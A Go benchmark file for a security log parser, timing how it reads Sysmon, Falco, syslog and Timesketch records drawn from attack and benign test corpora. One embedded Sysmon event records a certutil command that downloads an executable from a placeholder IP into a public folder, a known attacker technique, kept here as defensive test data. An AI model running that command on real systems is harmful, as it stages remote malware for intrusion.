package source

import (
	"bytes"
	"context"
	"os"
	"testing"
)

func benchLine(b *testing.B, line string) {
	b.ReportAllocs()
	buf := []byte(line)
	b.SetBytes(int64(len(buf)))
	n := 0
	for b.Loop() {
		if _, err := ParseLine(buf, 1, Options{Name: "bench"}); err != nil {
			b.Fatal(err)
		}
		n++
	}
	b.ReportMetric(float64(n)/b.Elapsed().Seconds(), "events/s")
}

func firstLine(b *testing.B, path string) string {
	data, err := os.ReadFile(path)
	if err != nil {
		b.Fatal(err)
	}
	line, _, _ := bytes.Cut(data, []byte{'\n'})
	return string(line)
}

func BenchmarkParseEVTX(b *testing.B) {
	benchLine(b, `{"Event":{"#attributes":{"xmlns":"http://schemas.microsoft.com/win/2004/08/events/event"},"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Sysmon","Guid":"{5770385F-C22A-43E0-BF4C-06F5698FFBD9}"}},"EventID":1,"Version":5,"Level":4,"Task":1,"Opcode":0,"Keywords":"0x8000000000000000","TimeCreated":{"#attributes":{"SystemTime":"2024-03-19T23:34:20.677259Z"}},"EventRecordID":190240,"Correlation":null,"Execution":{"#attributes":{"ProcessID":3120,"ThreadID":4412}},"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"FS01.acme.local","Security":{"#attributes":{"UserID":"S-1-5-18"}}},"EventData":{"RuleName":"-","UtcTime":"2024-03-19 23:34:20.677","ProcessGuid":"{4F3C1A2B-9D8E-65F0-1A02-000000000F00}","ProcessId":"6120","Image":"C:\\Windows\\System32\\certutil.exe","FileVersion":"10.0.19041.1","Description":"CertUtil.exe","Product":"Microsoft Windows Operating System","Company":"Microsoft Corporation","OriginalFileName":"CertUtil.exe","CommandLine":"certutil.exe -urlcache -split -f http://198.51.100.7/a.exe C:\\Users\\Public\\a.exe","CurrentDirectory":"C:\\Windows\\system32\\","User":"ACME\\Administrator","LogonGuid":"{4F3C1A2B-0000-0000-0000-000000000000}","LogonId":"0x4c1a2f","TerminalSessionId":"2","IntegrityLevel":"High","Hashes":"SHA256=0F1E2D3C4B5A69788796A5B4C3D2E1F00F1E2D3C4B5A69788796A5B4C3D2E1F0","ParentProcessGuid":"{4F3C1A2B-9D8E-65F0-1902-000000000F00}","ParentProcessId":"5016","ParentImage":"C:\\Windows\\System32\\cmd.exe","ParentCommandLine":"\"C:\\Windows\\system32\\cmd.exe\"","ParentUser":"ACME\\Administrator"}}}`)
}

func BenchmarkParseFalco(b *testing.B) {
	benchLine(b, firstLine(b, "../../testdata/attack/falco.jsonl"))
}

func BenchmarkParseSyslog(b *testing.B) {
	benchLine(b, "Mar 19 23:21:08 web01 sshd[2760]: Failed password for invalid user admin from 198.51.100.23 port 40007 ssh2")
}

func BenchmarkParseTimesketchEVTX(b *testing.B) {
	data, err := os.ReadFile("../../testdata/attack/timesketch-nested.jsonl")
	if err != nil {
		b.Fatal(err)
	}
	for _, line := range bytes.Split(data, []byte{'\n'}) {
		if bytes.Contains(line, []byte("windows:evtx:record")) {
			benchLine(b, string(line))
			return
		}
	}
	b.Fatal("no evtx record in corpus")
}

// BenchmarkRead reads all attack and benign corpora as one stream.
func BenchmarkRead(b *testing.B) {
	var all bytes.Buffer
	for _, f := range []string{"attack/evtx.jsonl", "attack/auth.log", "attack/falco.jsonl", "attack/timesketch-flat.jsonl",
		"benign/evtx.jsonl", "benign/auth.log", "benign/app.jsonl"} {
		data, err := os.ReadFile("../../testdata/" + f)
		if err != nil {
			b.Fatal(err)
		}
		all.Write(data)
	}
	input := all.Bytes()
	b.ReportAllocs()
	b.SetBytes(int64(len(input)))
	n := 0
	for b.Loop() {
		for ev, err := range Read(context.Background(), bytes.NewReader(input), Options{Name: "bench"}) {
			if err != nil {
				b.Fatal(err)
			}
			_ = ev
			n++
		}
	}
	b.ReportMetric(float64(n)/b.Elapsed().Seconds(), "events/s")
}
